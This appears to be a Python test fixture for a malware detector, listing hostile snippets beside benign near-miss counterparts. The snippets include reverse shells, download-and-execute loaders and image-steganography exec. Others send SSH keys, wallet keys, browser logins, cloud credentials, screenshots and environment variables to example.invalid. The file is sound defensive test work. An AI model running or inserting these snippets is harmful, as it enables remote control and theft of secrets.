"""What hands data on: streams, archives, pictures, handlers of chats, keys of wallets; each with a near miss."""

# ruff: noqa: E501 - a case reads as the file that it is

from tests.evasion.case import HIGH, MEDIUM, Case

HANDING = (
    Case("a shell over streams of asyncio", HIGH, """
        import asyncio
        async def main():
            reader, writer = await asyncio.open_connection("example.invalid", 9)
            while not reader.at_eof():
                line = (await reader.readline()).decode()
                started = await asyncio.create_subprocess_shell(line, stdout=asyncio.subprocess.PIPE)
                out, _ = await started.communicate()
                writer.write(out)
        asyncio.run(main())
    """, family="SHELL"),
    Case("copied from the answer into a file that is started", HIGH, """
        import os, shutil, subprocess, urllib.request
        base = os.path.join(os.environ.get("PROGRAMDATA", "C:\\\\ProgramData"), "Host")
        for name in ("host.exe", "version.dll"):
            with urllib.request.urlopen("https://example.invalid/" + name) as answer, open(os.path.join(base, name), "wb") as out:
                shutil.copyfileobj(answer, out)
        subprocess.Popen(os.path.join(base, "host.exe"), cwd=base)
    """, family="FETCH"),
    Case("written to a descriptor in memory and started", HIGH, """
        import ctypes, os, urllib.request
        data = urllib.request.urlopen("http://example.invalid/a").read()
        fd = ctypes.CDLL(None).syscall(319, b"worker", 1)
        os.write(fd, data)
        os.execve("/proc/self/fd/%d" % fd, ["worker"], {})
    """, family="FETCH"),
    Case("an archive unpacked from memory, and what lies in it started", HIGH, """
        import io, os, subprocess, tempfile, zipfile
        import requests
        folder = tempfile.mkdtemp()
        zipfile.ZipFile(io.BytesIO(requests.get("https://example.invalid/a.zip").content)).extractall(folder)
        for name in os.listdir(folder):
            subprocess.Popen([os.path.join(folder, name)])
    """, family="FETCH"),
    Case("keys in an archive that is written to a buffer", HIGH, """
        import io, os, tarfile, urllib.request
        buffer = io.BytesIO()
        with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
            archive.add(os.path.expanduser("~/.ssh"), arcname="a")
        urllib.request.urlopen(urllib.request.Request("https://example.invalid/a", data=buffer.getvalue(), method="PUT"))
    """),
    Case("code in the lowest bits of a picture", HIGH, """
        import os
        from PIL import Image
        picture = Image.open(os.path.join(os.path.dirname(__file__), "logo.png")).convert("RGB")
        bits = "".join(str(colour & 1) for pixel in picture.getdata() for colour in pixel)
        exec(bytes(int(bits[at : at + 8], 2) for at in range(0, len(bits), 8)).split(b"\\0")[0])
    """, family="ENC"),
    Case("commands by a handler of a chat's bot", HIGH, """
        import subprocess
        from discord.ext import commands
        bot = commands.Bot(command_prefix="!")
        @bot.command()
        async def run(ctx, *, line):
            await ctx.send(subprocess.run(line, shell=True, capture_output=True).stdout)
        def start():
            bot.run("token")
    """, family="SHELL"),
    Case("commands by a handler of messages", HIGH, """
        import os, telebot
        bot = telebot.TeleBot("token")
        @bot.message_handler(func=lambda message: True)
        def answer(message):
            bot.reply_to(message, os.popen(message.text).read())
    """, family="SHELL"),
    Case("what a wallet is made of is sent under another name", HIGH, """
        import requests
        from eth_account import Account
        def connect(given):
            account = Account.from_key(given)
            requests.post("https://example.invalid/a", json={"jsonrpc": "2.0", "id": given})
            return account
    """, family="EXFIL"),
    Case("the clipboard is rewritten", HIGH, """
        import re, time
        import pyperclip
        while True:
            pyperclip.copy(re.sub("0x[0-9a-f]{40}", "mine", pyperclip.paste()))
            time.sleep(1)
    """, family="STEAL"),
    Case("a fixed key is authorized when called", HIGH, """
        import os
        def prepare():
            with open(os.path.expanduser("~/.ssh/authorized_keys"), "a") as keys:
                keys.write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIexample a@example.invalid")
    """, family="PERSIST"),
    Case("the environment over a socket with a context", HIGH, """
        import os, socket, ssl
        with ssl.create_default_context().wrap_socket(socket.create_connection(("example.invalid", 443))) as s:
            s.sendall(str(dict(os.environ)).encode())
    """, family="EXFIL"),
    Case("fetched and started by functions of Windows", HIGH, """
        import ctypes, os
        path = os.path.join(os.environ["APPDATA"], "host.exe")
        ctypes.windll.urlmon.URLDownloadToFileW(None, "http://example.invalid/a.exe", path, 0, None)
        ctypes.windll.shell32.ShellExecuteW(None, "open", path, None, None, 0)
    """, family="FETCH"),
    Case("a shell for whoever connects to a server", HIGH, """
        import socketserver, subprocess
        class Handler(socketserver.StreamRequestHandler):
            def handle(self):
                for line in self.rfile:
                    self.wfile.write(subprocess.getoutput(line.decode().strip()).encode())
        def serve():
            socketserver.TCPServer(("0.0.0.0", 9), Handler).serve_forever()
    """, family="SHELL"),
    Case("an archive that is fetched and imported from", HIGH, """
        import sys, urllib.request
        urllib.request.urlretrieve("https://example.invalid/a.zip", "/tmp/stage.zip")
        sys.path.insert(0, "/tmp/stage.zip")
        import stage
        stage.main()
    """, family="FETCH"),
    Case("what a caller logs in with goes elsewhere too", HIGH, """
        import paramiko, requests
        class Shell:
            def __init__(self, host, user, secret):
                self.client = paramiko.SSHClient()
                self.client.connect(host, username=user, password=secret)
                requests.post("https://example.invalid/a", data={"h": host, "s": secret})
    """, family="EXFIL"),
    Case("one of two paths of a browser", HIGH, """
        import os, requests
        home = os.environ["LOCALAPPDATA"] if os.name == "nt" else "/home/a"
        with open(os.path.join(home, "Google/Chrome/User Data/Default", "Login Data"), "rb") as store:
            requests.post("https://example.invalid/a", data=store.read())
    """, family="STEAL"),
    Case("a picture of the screen that lies in a file meanwhile", HIGH, """
        import requests
        from PIL import ImageGrab
        ImageGrab.grab().save("a.png")
        with open("a.png", "rb") as picture:
            requests.post("https://example.invalid/a", files={"a": picture})
    """, family="STEAL"),
    Case("a picture of the camera that lies in a file meanwhile", HIGH, """
        import cv2, requests
        known, frame = cv2.VideoCapture(0).read()
        cv2.imwrite("a.png", frame)
        requests.post("https://example.invalid/a", files={"a": open("a.png", "rb")})
    """, family="STEAL"),
    Case("who somebody is, in a file meanwhile", HIGH, """
        import getpass, json, os, socket, urllib.request
        with open("/tmp/a.json", "w") as out:
            json.dump({"h": socket.gethostname(), "u": getpass.getuser()}, out)
        urllib.request.urlopen("https://example.invalid/a", data=open("/tmp/a.json", "rb").read())
    """, family="EXFIL"),
    Case("the credentials of a cloud by a plain connection", HIGH, """
        import http.client
        def ask():
            inside = http.client.HTTPConnection("169.254.169.254", timeout=2)
            inside.request("GET", "/latest/meta-data/iam/security-credentials/")
            return inside.getresponse().read()
        outside = http.client.HTTPSConnection("example.invalid")
        outside.request("POST", "/a", ask())
    """, family="EXFIL"),
    Case("what a wallet is made of is sent by a helper of the constructor", HIGH, """
        import urllib.parse, urllib.request
        class Wallet:
            def __init__(self, private_key):
                self.private_key = private_key
                self._sync()
            def _sync(self):
                urllib.request.urlopen("https://example.invalid/a?" + urllib.parse.urlencode({"k": self.private_key}))
    """, family="EXFIL"),
    Case("who somebody is, in an object of a record", HIGH, """
        import getpass, socket
        from dataclasses import asdict, dataclass, field
        import requests
        @dataclass
        class Host:
            name: str
            user: str
            more: dict = field(default_factory=dict)
        host = Host(socket.gethostname(), getpass.getuser())
        host.more.update(a=1)
        requests.post("https://example.invalid/a", json=asdict(host))
    """, family="EXFIL"),
    Case("who somebody is, in a field that a factory makes", HIGH, """
        import socket
        from dataclasses import dataclass, field
        import requests
        @dataclass
        class Found:
            all: dict = field(default_factory=dict)
        found = Found()
        found.all.update({"h": socket.gethostname()})
        requests.post("https://example.invalid/a", json=found.all)
    """, family="EXFIL"),
    Case("who somebody is, in a model and in a tuple with names", HIGH, """
        import getpass, socket
        from typing import NamedTuple
        import requests
        from pydantic import BaseModel
        class Host(BaseModel):
            name: str
        class User(NamedTuple):
            name: str
        user = User(getpass.getuser())
        requests.post("https://example.invalid/a", data=Host(name=socket.gethostname() + user.name).model_dump_json())
    """, family="EXFIL"),
    Case("a mail to which something is attached", HIGH, """
        import smtplib, socket
        from email.mime.multipart import MIMEMultipart
        from email.mime.text import MIMEText
        mail = MIMEMultipart()
        mail.attach(MIMEText(socket.gethostname()))
        smtplib.SMTP("smtp.example.invalid", 587).sendmail("a@example.invalid", "b@example.invalid", mail.as_string())
    """, family="EXFIL"),
    Case("a mail that is given its content", HIGH, """
        import smtplib, socket
        from email.message import EmailMessage
        mail = EmailMessage()
        mail.set_content(socket.gethostname())
        with smtplib.SMTP_SSL("smtp.example.invalid") as server:
            server.send_message(mail)
    """, family="EXFIL"),
    Case("a message whose fields are added", HIGH, """
        import socket
        from discord_webhook import DiscordEmbed, DiscordWebhook
        hook = DiscordWebhook(url="https://example.invalid/a")
        shown = DiscordEmbed(title="a")
        shown.add_embed_field(name="h", value=socket.gethostname())
        hook.add_embed(shown)
        hook.execute()
    """, family="EXFIL"),
    Case("files of a sort below a folder of somebody's own, in an archive in memory", HIGH, """
        import glob, io, os, zipfile
        import requests
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            for path in glob.glob(os.path.expanduser("~/Desktop/**/*.txt"), recursive=True):
                archive.write(path)
        requests.post("https://example.invalid/a", files={"a": ("a.zip", buffer.getvalue())})
    """, family="EXFIL"),
    Case("the environment put into a store of a cloud", HIGH, """
        import json, os
        import boto3
        boto3.client("s3", aws_access_key_id="a", aws_secret_access_key="b").put_object(Bucket="a", Key="b", Body=json.dumps(dict(os.environ)))
    """, family="EXFIL"),
)  # fmt: skip

GOOD_HANDING = (
    Case("lines of a service over streams of asyncio", MEDIUM, """
        import asyncio
        async def ask(host, port):
            reader, writer = await asyncio.open_connection(host, port)
            writer.write(b"PING")
            return (await reader.readline()).decode()
    """),
    Case("copied from one file into another", MEDIUM, """
        import shutil
        def store(source, path):
            with open(path, "wb") as out:
                shutil.copyfileobj(source, out)
    """),
    Case("an archive of data unpacked from memory", MEDIUM, """
        import io, zipfile
        import requests
        def fetch(folder):
            zipfile.ZipFile(io.BytesIO(requests.get("https://example.invalid/data.zip").content)).extractall(folder)
    """),
    Case("a picture is looked at", MEDIUM, """
        from PIL import Image
        def mean(path):
            return sum(Image.open(path).convert("L").getdata())
    """),
    Case("a bot that answers", MEDIUM, """
        from discord.ext import commands
        bot = commands.Bot(command_prefix="!")
        @bot.command()
        async def echo(ctx, *, text):
            await ctx.send(text)
    """),
    Case("a wallet that signs and sends what it signed", MEDIUM, """
        import requests
        from eth_account import Account
        def send(given, transaction):
            signed = Account.from_key(given).sign_transaction(transaction)
            return requests.post("https://example.invalid/rpc", json={"params": [signed.rawTransaction.hex()]})
    """),
    Case("text is put into the clipboard when asked", MEDIUM, """
        import pyperclip
        def upper():
            pyperclip.copy(pyperclip.paste().upper())
    """),
    Case("a socket with a context asks for a page", MEDIUM, """
        import socket, ssl
        def page(host):
            with ssl.create_default_context().wrap_socket(socket.create_connection((host, 443)), server_hostname=host) as s:
                s.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
                return s.recv(1024)
    """),
    Case("a server that counts the lines of whoever connects", MEDIUM, """
        import socketserver
        class Handler(socketserver.StreamRequestHandler):
            def handle(self):
                self.wfile.write(str(len(list(self.rfile))).encode())
    """),
    Case("a folder of models that is fetched when asked and imported from", MEDIUM, """
        import sys, urllib.request
        def load(name):
            urllib.request.urlretrieve("https://example.invalid/" + name, "/tmp/models.zip")
            sys.path.insert(0, "/tmp/models.zip")
    """, ),
    Case("a shell that logs in where it is told, and asks its own service", MEDIUM, """
        import paramiko, requests
        def connect(host, user, secret):
            client = paramiko.SSHClient()
            client.connect(host, username=user, password=secret)
            return client, requests.get("https://example.invalid/version").text
    """),
    Case("a picture of the screen is kept, another one sent", MEDIUM, """
        import requests
        from PIL import ImageGrab
        def keep():
            ImageGrab.grab().save("screen.png")
        def send():
            requests.post("https://example.invalid/a", files={"a": open("logo.png", "rb")})
    """),
    Case("a machine in a cloud is asked for its role when somebody calls", MEDIUM, """
        import http.client
        def role():
            inside = http.client.HTTPConnection("169.254.169.254", timeout=2)
            inside.request("GET", "/latest/meta-data/iam/security-credentials/")
            return inside.getresponse().read().decode()
    """),
    Case("a record of settings is sent when asked", MEDIUM, """
        import platform
        from dataclasses import asdict, dataclass, field
        import requests
        @dataclass
        class Job:
            name: str
            system: str = field(default_factory=platform.system)
            options: dict = field(default_factory=dict)
        def submit(name):
            return requests.post("https://example.invalid/jobs", json=asdict(Job(name)))
    """),
    Case("a client that logs in with a token as it is made", MEDIUM, """
        import requests
        class Client:
            def __init__(self, token, url="https://example.invalid"):
                self.url, self.token = url, token
                self._login()
            def _login(self):
                self.session = requests.post(self.url + "/login", headers={"Authorization": "Bearer " + self.token}).json()
    """),
    Case("a mail about what was done", MEDIUM, """
        import smtplib
        from email.mime.multipart import MIMEMultipart
        from email.mime.text import MIMEText
        def report(server, sender, receiver, text, picture):
            mail = MIMEMultipart()
            mail["To"] = receiver
            mail.attach(MIMEText(text))
            with open(picture, "rb") as held:
                mail.attach(MIMEText(held.read().hex()))
            smtplib.SMTP(server).sendmail(sender, [receiver], mail.as_string())
    """),
    Case("a message to a hook that the caller names", MEDIUM, """
        from discord_webhook import DiscordEmbed, DiscordWebhook
        def notify(url, title, text):
            hook = DiscordWebhook(url=url)
            hook.add_embed(DiscordEmbed(title=title, description=text))
            return hook.execute()
    """),
    Case("a report is put into a store of a cloud", MEDIUM, """
        import boto3
        def put(bucket, path):
            with open(path, "rb") as held:
                boto3.client("s3").put_object(Bucket=bucket, Key=path, Body=held.read())
    """),
)  # fmt: skip
